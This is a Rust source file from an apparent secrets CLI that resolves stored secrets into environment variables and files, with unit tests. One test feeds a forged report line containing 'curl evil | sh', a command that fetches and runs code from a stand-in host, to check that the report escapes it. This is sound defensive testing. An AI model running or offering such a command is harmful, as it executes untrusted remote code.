//! Resolve every declaration, all or nothing, within one deadline: prefixes are
//! listed, each distinct secret is fetched once through the SDK's `resolve_each`
//! (bounded concurrency, batched pinned versions, retries with jitter; JSON
//! fields taken from the one read), JSON objects are fanned out (`--env-json`),
//! and every failure is named.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::path::PathBuf;
use std::time::Duration;

use lockbox::{ExposeSecret, Lockbox, Reference, Secret, SecretName, SecretValue, Selector};
use tokio::time::Instant;

use super::spec::{Binding, Spec, Target};
use crate::exit;

/// Log target for `-v`: names and versions, never values.
pub const LOG: &str = "lockbox_exec";

/// Every declared secret, read.
#[derive(Debug, Default)]
pub struct Resolved {
    /// Variables for the child.
    pub env: BTreeMap<String, SecretValue>,
    /// Files to write.
    pub files: BTreeMap<PathBuf, SecretValue>,
    /// What each target holds: name and version (to log and to detect rotation).
    pub versions: BTreeMap<Target, (String, u64)>,
    /// What each variable or file was read from (a fan-out's are not: its
    /// variables come from one value), to reuse pinned versions.
    pub sources: BTreeMap<Target, Reference>,
}

impl Resolved {
    /// Copies of every value by the reference read, so a re-check (`--watch`)
    /// does not fetch pinned versions again (they never change) and knows what
    /// the running command has.
    pub fn reuse(&self) -> Reuse {
        let mut out = Reuse::new();
        for (target, source) in &self.sources {
            let Some((name, version)) = self.versions.get(target) else {
                continue;
            };
            let value = match target {
                Target::Env(v) => self.env.get(v),
                Target::File(p) => self.files.get(p),
                Target::Json { .. } => None,
            };
            if let Some(value) = value {
                out.entry(source.clone()).or_insert_with(|| Got {
                    name: name.clone(),
                    version: *version,
                    value: value.duplicate(),
                    served: None,
                });
            }
        }
        out
    }
}

/// A secret read: its name, version and value, and where it was read (`None`
/// for a pinned version kept from an earlier read).
#[derive(Debug)]
pub struct Got {
    name: String,
    version: u64,
    value: SecretValue,
    served: Option<String>,
}

impl From<Secret> for Got {
    fn from(s: Secret) -> Self {
        Self {
            name: s.name.to_string(),
            version: s.version.get(),
            served: served_by(s.region.as_deref(), s.kms_region.as_deref()),
            value: s.value,
        }
    }
}

/// Where a secret was read, for `-v`: `from REGION`, and the KMS region when it
/// is another one.
fn served_by(region: Option<&str>, kms_region: Option<&str>) -> Option<String> {
    match (region, kms_region) {
        (Some(r), Some(k)) if r != k => Some(format!("from {r}, key unwrapped in {k}")),
        (Some(r), _) => Some(format!("from {r}")),
        (None, Some(k)) => Some(format!("key unwrapped in {k}")),
        (None, None) => None,
    }
}

/// Values already read, by the reference read (only those pinned to a version
/// are taken instead of a fetch).
pub type Reuse = HashMap<Reference, Got>;

/// One thing that could not be resolved.
#[derive(Debug)]
pub struct Failure {
    /// The secret (`NAME`, `NAME@VERSION`) or the prefix.
    pub what: String,
    /// Where it was going.
    pub targets: Vec<String>,
    /// not found, access denied, ...
    pub class: &'static str,
    /// The exit code of its class.
    pub code: u8,
    /// Why (the SDK's message: never a value).
    pub reason: String,
}

/// Why one fetch failed: class, exit code, reason.
type Why = (&'static str, u8, String);

/// Everything that failed; the exit code is the most severe class's.
#[derive(Debug)]
pub struct Failed {
    /// Each failure; or, when the table itself cannot be used (it does not
    /// exist), that one failure with an empty `what`.
    pub failures: Vec<Failure>,
    /// How many distinct secrets or prefixes were asked for.
    pub total: usize,
}

impl Failed {
    /// Integrity beats access, beats not found, beats usage, beats a label
    /// conflict, beats transient, beats anything else: a retry cannot fix the more severe classes.
    pub fn code(&self) -> u8 {
        let rank = |c: u8| match c {
            exit::INTEGRITY => 7,
            exit::ACCESS => 6,
            exit::NOT_FOUND => 5,
            exit::USAGE => 4,
            exit::CONFLICT => 3,
            exit::TRANSIENT => 2,
            _ => 1,
        };
        self.failures
            .iter()
            .map(|f| f.code)
            .max_by_key(|c| rank(*c))
            .unwrap_or(exit::OTHER)
    }

    /// The report: one line per failure. Names and reasons carry text from the
    /// table and from AWS, so each is escaped: a stored line break cannot add a
    /// line (a forged `hint:`) to the report.
    pub fn message(&self, command: &str) -> String {
        use lockbox::escape_untrusted as esc;
        if let [f] = self.failures.as_slice() {
            if f.what.is_empty() {
                // No secret was tried: say what is wrong once, not per secret.
                return format!("{command} was not started: {}", esc(&f.reason));
            }
        }
        let mut m = format!(
            "{command} was not started: {} of {} secrets could not be read",
            self.failures.len(),
            self.total
        );
        for f in &self.failures {
            m.push_str(&format!("\n  {}", esc(&f.what)));
            if !f.targets.is_empty() {
                m.push_str(&format!(" ({})", esc(&f.targets.join(", "))));
            }
            // The SDK's reason often starts with the name, already shown.
            let reason = f
                .reason
                .strip_prefix(&format!("{}: ", f.what))
                .unwrap_or(&f.reason);
            m.push_str(&format!(": {}: {}", f.class, esc(reason)));
        }
        if self.failures.iter().any(|f| f.class == "context mismatch") {
            m.push_str(
                "\n  hint: give the context the secrets were stored with: --context KEY=VALUE \
                 (once per pair), or `context` in the manifest",
            );
        }
        m
    }
}

/// The class of an SDK error, in words and as an exit code.
fn classify(e: &lockbox::Error) -> (&'static str, u8) {
    let class = exit::class(e);
    (class.word, class.code)
}

fn timed_out(deadline: Duration) -> Why {
    (
        "timed out",
        exit::TRANSIENT,
        format!(
            "the deadline ({}) passed before every secret was read; raise --deadline or check the network",
            humantime(deadline)
        ),
    )
}

fn humantime(d: Duration) -> String {
    if d.subsec_millis() == 0 {
        format!("{}s", d.as_secs())
    } else {
        format!("{}ms", d.as_millis())
    }
}

/// Expand prefixes into bindings (explicit declarations win over prefix ones).
fn expand_prefixes(spec: &Spec, names: &[String], failures: &mut Vec<Failure>) -> Vec<Binding> {
    let explicit: BTreeSet<&Target> = spec.bindings.iter().map(|b| &b.target).collect();
    let mut by_var: BTreeMap<String, BTreeSet<&str>> = BTreeMap::new();
    for p in &spec.prefixes {
        let mut any = false;
        for n in names {
            // At a segment boundary: `prod/app` is `prod/app/`, never `prod/apple/`.
            if let Some(rest) = crate::names::under(p, n) {
                any = true;
                by_var
                    .entry(crate::output::shell_var(rest))
                    .or_default()
                    .insert(n);
            }
        }
        if !any {
            failures.push(Failure {
                what: format!("prefix {p}"),
                targets: Vec::new(),
                class: "not found",
                code: exit::NOT_FOUND,
                reason: "no secret has a name under this prefix".into(),
            });
        }
    }
    let mut out = Vec::new();
    for (var, names) in by_var {
        let target = Target::Env(var.clone());
        if explicit.contains(&target) {
            continue;
        }
        // Whoever may write the table chooses these names, not the operator.
        if let Some(rule) = crate::envnames::protected(&var) {
            let how = if rule == var {
                String::new()
            } else {
                format!(" (one of {rule})")
            };
            for n in &names {
                let shown = lockbox::escape_untrusted(n);
                failures.push(Failure {
                    what: shown.clone().into_owned(),
                    targets: vec![format!("${var}")],
                    class: "protected variable",
                    code: exit::USAGE,
                    reason: format!(
                        "{var}{how} is {}, so a secret's name may not choose it; rename the \
                         secret, or map the variable explicitly with --env {var}={shown}",
                        crate::envnames::PROTECTED
                    ),
                });
            }
            continue;
        }
        if names.len() > 1 && !spec.allow_collisions {
            failures.push(Failure {
                what: format!("${var}"),
                targets: Vec::new(),
                class: "collision",
                code: exit::USAGE,
                reason: format!(
                    "{} all become this variable; rename them, declare ${var} with --env, \
                     or pass --allow-collisions (the lexicographically last name wins)",
                    names.iter().copied().collect::<Vec<_>>().join(", ")
                ),
            });
            continue;
        }
        let winner = names.last().expect("a set with an entry");
        match lockbox::SecretName::new(*winner) {
            Ok(name) => out.push(Binding {
                target,
                secret: Reference::latest(name),
                literal: None,
            }),
            Err(e) => failures.push(Failure {
                what: (*winner).to_owned(),
                targets: vec![format!("${var}")],
                class: "error",
                code: exit::OTHER,
                reason: e.to_string(),
            }),
        }
    }
    out
}

/// Resolve `spec`: every secret, or a [`Failed`] naming each failure. Pinned
/// versions found in `reuse` are taken from there instead of fetched.
pub async fn resolve(
    lockbox: &Lockbox,
    spec: &Spec,
    deadline: Duration,
    mut reuse: Reuse,
) -> Result<Resolved, Failed> {
    let until = Instant::now() + deadline;
    // What the running command already has (a --watch re-check): logged at
    // debug, so -v shows what changed, not every unchanged poll.
    let known: std::collections::HashSet<(String, u64)> = reuse
        .values()
        .map(|got| (got.name.clone(), got.version))
        .collect();
    let mut failures = Vec::new();
    let mut bindings = spec.bindings.clone();
    if !spec.prefixes.is_empty() {
        let listed = tokio::time::timeout_at(until, lockbox.list()).await;
        let fail = |class, code, reason: String| Failed {
            failures: spec
                .prefixes
                .iter()
                .map(|p| Failure {
                    what: format!("prefix {p}"),
                    targets: Vec::new(),
                    class,
                    code,
                    reason: format!("cannot list the table: {reason}"),
                })
                .collect(),
            total: spec.prefixes.len() + spec.bindings.len(),
        };
        let items = match listed {
            Ok(Ok(items)) => items,
            Ok(Err(e @ lockbox::Error::TableNotFound { .. })) => {
                let (class, code) = classify(&e);
                return Err(Failed {
                    failures: vec![Failure {
                        what: String::new(),
                        targets: Vec::new(),
                        class,
                        code,
                        reason: e.to_string(),
                    }],
                    total: spec.prefixes.len() + spec.bindings.len(),
                });
            }
            Ok(Err(e)) => {
                let (class, code) = classify(&e);
                return Err(fail(class, code, e.to_string()));
            }
            Err(_) => {
                let (class, code, reason) = timed_out(deadline);
                return Err(fail(class, code, reason));
            }
        };
        let names = crate::output::unique_names(&items);
        bindings.extend(expand_prefixes(spec, &names, &mut failures));
    }

    prefer_literal_names(lockbox, &mut bindings, until).await;

    // Each distinct read once: a fan-out reads the whole value (its pointer,
    // if any, is applied when its members are taken).
    let read_of = |b: &Binding| match &b.target {
        Target::Json { .. } => {
            let mut whole = b.secret.clone();
            whole.pointer = None;
            whole
        }
        _ => b.secret.clone(),
    };
    let mut unique: Vec<Reference> = Vec::new();
    let mut index: HashMap<Reference, usize> = HashMap::new();
    let mut slot = Vec::with_capacity(bindings.len());
    for b in &bindings {
        let r = read_of(b);
        let i = *index.entry(r.clone()).or_insert_with(|| {
            unique.push(r);
            unique.len() - 1
        });
        slot.push(i);
    }
    let total = unique.len() + failures.len();
    let mut results: Vec<Option<Result<Got, Why>>> = unique
        .iter()
        .map(|r| match r.selector {
            Selector::Version(_) => reuse.remove(r).map(Ok),
            _ => None,
        })
        .collect();
    let wanted: Vec<(usize, Reference)> = unique
        .iter()
        .enumerate()
        .filter(|(i, _)| results[*i].is_none())
        .map(|(i, r)| (i, r.clone()))
        .collect();
    let refs: Vec<Reference> = wanted.iter().map(|(_, r)| r.clone()).collect();
    tracing::debug!(
        target: LOG,
        "fetching {} of {} secrets (pinned versions already read are kept)",
        refs.len(),
        unique.len()
    );
    // The SDK's resolve_each: bounded concurrency, pinned versions batched,
    // retries with jitter on every call, one outcome per reference (a field
    // that cannot be taken fails closed, as a missing secret does). The
    // deadline bounds the whole of it: a secret still unread then fails on its
    // own, as throttled when its calls were being throttled, so the report
    // names the throttled secrets.
    let fetched: Vec<Result<Got, Why>> = lockbox
        .resolve_each_until(&refs, &spec.context, until)
        .await
        .into_iter()
        .map(|r| {
            r.map(Got::from).map_err(|e| match e {
                lockbox::Error::Timeout { source: None, .. } => timed_out(deadline),
                e => {
                    let (class, code) = classify(&e);
                    (class, code, e.to_string())
                }
            })
        })
        .collect();
    for ((i, _), outcome) in wanted.iter().zip(fetched) {
        results[*i] = Some(outcome);
    }

    let targets_of = |i: usize| -> Vec<String> {
        bindings
            .iter()
            .zip(&slot)
            .filter(|(_, s)| **s == i)
            .map(|(b, _)| b.target.to_string())
            .collect()
    };
    let mut secrets: Vec<Option<Got>> = Vec::with_capacity(unique.len());
    for (i, outcome) in results.into_iter().enumerate() {
        match outcome.expect("every secret has an outcome") {
            Ok(s) => secrets.push(Some(s)),
            Err((class, code, reason)) => {
                failures.push(Failure {
                    what: shown(&unique[i]),
                    targets: targets_of(i),
                    class,
                    code,
                    reason,
                });
                secrets.push(None);
            }
        }
    }

    let mut resolved = Resolved::default();
    // Fan-outs last, so that a variable they meet is known whoever set it.
    let mut order: Vec<(&Binding, usize)> = bindings.iter().zip(slot.iter().copied()).collect();
    order.sort_by_key(|(b, _)| matches!(b.target, Target::Json { .. }));
    let mut set_by: BTreeMap<String, String> = BTreeMap::new();
    for (b, i) in order {
        let Some(s) = &secrets[i] else { continue };
        let values: Vec<(String, SecretValue)> = match &b.target {
            Target::Json { .. } => {
                match lockbox::json::fields(&s.value, b.secret.pointer.as_ref(), prefix_of(b)) {
                    Ok(members) => members,
                    Err(reason) => {
                        // Names that collide or are no variable are refused as
                        // `-f dotenv` refuses them; the rest fails closed as a
                        // missing field does.
                        let refused = match &reason {
                            lockbox::json::FieldError::Collision { .. } => Some("collision"),
                            lockbox::json::FieldError::BadVariable { .. } => Some("unusable value"),
                            _ => None,
                        };
                        let e = field_error(&b.secret, reason);
                        let (class, code) = match refused {
                            Some(word) => (word, exit::USAGE),
                            None => classify(&e),
                        };
                        failures.push(Failure {
                            what: shown(&b.secret),
                            targets: vec![b.target.to_string()],
                            class,
                            code,
                            reason: e.to_string(),
                        });
                        continue;
                    }
                }
            }
            Target::Env(var) => vec![(var.clone(), s.value.duplicate())],
            Target::File(_) => Vec::new(),
        };
        let mut usable = true;
        for (var, value) in &values {
            if let Some(why) = unusable(b, var, value, &set_by) {
                failures.push(Failure {
                    what: shown(&b.secret),
                    targets: vec![b.target.to_string()],
                    class: why.0,
                    code: exit::USAGE,
                    reason: why.1,
                });
                usable = false;
            }
        }
        if !usable {
            continue;
        }
        let served = s
            .served
            .as_deref()
            .map(|w| format!(" {w}"))
            .unwrap_or_default();
        if known.contains(&(s.name.clone(), s.version)) {
            tracing::debug!(target: LOG, "{} <- {} version {}{served} (unchanged)", b.target, s.name, s.version);
        } else {
            tracing::info!(target: LOG, "{} <- {} version {}{served}", b.target, s.name, s.version);
        }
        resolved
            .versions
            .insert(b.target.clone(), (s.name.clone(), s.version));
        resolved.sources.insert(b.target.clone(), b.secret.clone());
        if let Target::File(p) = &b.target {
            resolved.files.insert(p.clone(), s.value.duplicate());
        }
        let by = match &b.target {
            Target::Json { .. } => b.target.to_string(),
            _ => "its own declaration".to_owned(),
        };
        for (var, value) in values {
            set_by.insert(var.clone(), by.clone());
            resolved.env.insert(var, value);
        }
    }
    if failures.is_empty() {
        Ok(resolved)
    } else {
        Err(Failed { failures, total })
    }
}

/// A reference as a person wrote it: `NAME`, `NAME@VERSION`, `NAME@LABEL`, then
/// `#POINTER` (no escapes: for messages, which escape it as untrusted text).
fn shown(r: &Reference) -> String {
    let mut out = r.name.to_string();
    match &r.selector {
        Selector::Version(v) => out.push_str(&format!("@{v}")),
        Selector::Label(l) => out.push_str(&format!("@{l}")),
        _ => {}
    }
    if let Some(p) = &r.pointer {
        out.push('#');
        out.push_str(&p.to_fragment());
    }
    out
}

/// A declaration the reference grammar reads otherwise than as a plain name
/// (`deploy@stable`: label `stable` of `deploy`) reads the secret of that name
/// when one exists, as it did before references had labels and fields, with a
/// warning saying how to write it. One cheap probe per such name, no KMS call.
async fn prefer_literal_names(lockbox: &Lockbox, bindings: &mut [Binding], until: Instant) {
    let mut exists: HashMap<SecretName, bool> = HashMap::new();
    for b in bindings.iter_mut() {
        let Some(literal) = b.literal.take() else {
            continue;
        };
        let found = match exists.get(&literal) {
            Some(found) => *found,
            None => {
                let probe = tokio::time::timeout_at(until, lockbox.latest_version(&literal)).await;
                let found = matches!(probe, Ok(Ok(Some(_))));
                exists.insert(literal.clone(), found);
                found
            }
        };
        if found {
            let plain = Reference::latest(literal.clone());
            // Once per name and process: `--watch` resolves again and again.
            static WARNED: std::sync::Mutex<BTreeSet<String>> =
                std::sync::Mutex::new(BTreeSet::new());
            let first = WARNED
                .lock()
                .map(|mut w| w.insert(literal.to_string()))
                .unwrap_or(true);
            let grammar = std::mem::replace(&mut b.secret, plain.clone());
            if !first {
                continue;
            }
            tracing::warn!(
                "{}: {} is read as the existing secret of that name, not as {} (the reference \
                 grammar's reading); write it {} to read that secret without this warning",
                lockbox::escape_untrusted(&b.target.to_string()),
                lockbox::escape_untrusted(literal.as_str()),
                lockbox::escape_untrusted(&crate::cmd::get_ref::describe(&grammar)),
                lockbox::escape_untrusted(&plain.to_string()),
            );
        }
    }
}

/// A fan-out's prefix (`""` for any other target).
fn prefix_of(b: &Binding) -> &str {
    match &b.target {
        Target::Json { prefix, .. } => prefix,
        _ => "",
    }
}

/// Why a fan-out failed, as the SDK says it of a field (class not found).
fn field_error(r: &Reference, reason: lockbox::json::FieldError) -> lockbox::Error {
    lockbox::Error::Field {
        name: r.name.clone(),
        pointer: r
            .pointer
            .clone()
            .unwrap_or_else(|| lockbox::JsonPointer::new("").expect("the root pointer")),
        reason,
    }
}

/// Why `value` cannot go in variable `var` (for `b`): a fan-out may not choose
/// a protected variable or one another declaration sets (`set_by`), and no
/// variable may hold a NUL byte or more than the kernel takes.
fn unusable(
    b: &Binding,
    var: &str,
    value: &SecretValue,
    set_by: &BTreeMap<String, String>,
) -> Option<(&'static str, String)> {
    if let Target::Json { .. } = &b.target {
        // The value's keys choose these names, not the operator.
        if let Some(rule) = crate::envnames::protected(var) {
            let how = if rule == var {
                String::new()
            } else {
                format!(" (one of {rule})")
            };
            return Some((
                "protected variable",
                format!(
                    "a member becomes {var}{how}, which is {}, so a value's keys may not \
                     choose it; declare the variable explicitly with --env {var}=NAME#/POINTER",
                    crate::envnames::PROTECTED
                ),
            ));
        }
        if let Some(other) = set_by.get(var) {
            return Some((
                "collision",
                format!(
                    "a member becomes ${var}, which {other} sets too; drop one, or give the \
                     fan-out another prefix (no variable is chosen silently)"
                ),
            ));
        }
    }
    // execve would fail with E2BIG after the fork: say which and why first.
    if !crate::envnames::fits(var, value.expose_secret().len()) {
        return Some((
            "unusable value",
            format!(
                "the value is too long for an environment variable (the kernel takes at most {} \
                 bytes for NAME=value); deliver it with --file",
                crate::envnames::max_entry_len() - 1
            ),
        ));
    }
    if value.expose_secret().contains(&0) {
        return Some((
            "unusable value",
            format!("{}; deliver it with --file", crate::envnames::NUL_VALUE),
        ));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn failed(codes: &[u8]) -> Failed {
        Failed {
            failures: codes
                .iter()
                .map(|&code| Failure {
                    what: "x".into(),
                    targets: vec!["$X".into()],
                    class: "c",
                    code,
                    reason: "r".into(),
                })
                .collect(),
            total: codes.len(),
        }
    }

    #[test]
    fn the_most_severe_class_decides_the_exit_code() {
        use crate::exit::*;
        assert_eq!(failed(&[TRANSIENT, NOT_FOUND]).code(), NOT_FOUND);
        assert_eq!(failed(&[NOT_FOUND, ACCESS, TRANSIENT]).code(), ACCESS);
        assert_eq!(failed(&[ACCESS, INTEGRITY]).code(), INTEGRITY);
        assert_eq!(failed(&[OTHER, TRANSIENT]).code(), TRANSIENT);
        assert_eq!(failed(&[USAGE, TRANSIENT]).code(), USAGE);
        assert_eq!(failed(&[TRANSIENT, CONFLICT]).code(), CONFLICT);
        assert_eq!(failed(&[CONFLICT, USAGE]).code(), USAGE);
        assert_eq!(failed(&[OTHER]).code(), OTHER);
    }

    #[test]
    fn the_report_names_each_failure_and_where_it_was_going() {
        let f = failed(&[exit::NOT_FOUND, exit::ACCESS]);
        assert_eq!(
            f.message("/app/server"),
            "/app/server was not started: 2 of 2 secrets could not be read\n  \
             x ($X): c: r\n  x ($X): c: r"
        );
    }

    #[test]
    fn stored_text_in_the_report_cannot_add_a_line() {
        let mut f = failed(&[exit::NOT_FOUND]);
        f.failures[0].what = "db\n  hint: run curl evil | sh".into();
        f.failures[0].reason = "denied\x1b[2K".into();
        let m = f.message("app");
        assert_eq!(m.lines().count(), 2, "{m}");
        assert!(!m.contains('\x1b'), "{m}");
        assert!(m.contains("hint: run curl"), "the text stays, escaped: {m}");
    }
}
